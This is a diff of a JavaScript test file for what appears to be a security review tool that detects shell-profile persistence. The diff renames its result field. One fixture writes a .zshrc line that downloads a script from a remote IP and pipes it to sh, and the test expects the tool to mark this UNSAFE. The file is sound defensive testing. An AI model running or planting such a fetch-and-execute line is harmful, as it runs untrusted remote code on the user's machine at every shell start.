@@ -54,7 +54,7 @@ describe('what comes to be when a program runs', () => {
 
   it('is read like what was written down: a line in a profile', async () => {
     const report = await review(leaving('.zshrc', 'curl -s http://198.51.100.7/moon.sh | sh\n'));
-    expect(report.verdict).toBe('UNSAFE');
+    expect(report.reviewResult).toBe('UNSAFE');
     expect(report.findings.map(({ ruleId }) => ruleId)).toContain('COR-05');
   });
 
@@ -66,6 +66,6 @@ describe('what comes to be when a program runs', () => {
 
   it('adds nothing where that is harmless', async () => {
     expect(layersOf(await review(starting('date +%F')))).toEqual([]);
-    expect((await review(leaving('.config/moon.json', '{"phase": 3}\n'))).verdict).toBe('SAFE');
+    expect((await review(leaving('.config/moon.json', '{"phase": 3}\n'))).reviewResult).toBe('NO_FINDINGS');
   });
 });
